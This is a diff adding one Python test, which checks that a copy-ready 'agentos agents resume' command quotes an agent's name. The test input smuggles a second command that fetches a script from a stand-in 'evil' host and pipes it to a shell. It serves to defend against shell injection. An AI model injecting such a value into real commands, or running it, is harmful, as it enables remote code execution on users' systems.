@@ -220,6 +220,11 @@ def test_a_state_in_which_nothing_goes_on_is_told_with_what_mends_it(
     assert scene.read() == ""
 
 
+def test_a_command_that_is_to_be_copied_quotes_the_name(scene: Scene) -> None:
+    scene.shows(state="paused", name="x; curl evil|sh #")
+    assert "agentos agents resume 'x; curl evil|sh #'" in scene.read()
+
+
 def test_a_conversation_ends_with_its_agent(scene: Scene) -> None:
     scene.shows(state="terminated")
     assert scene.talk.is_over
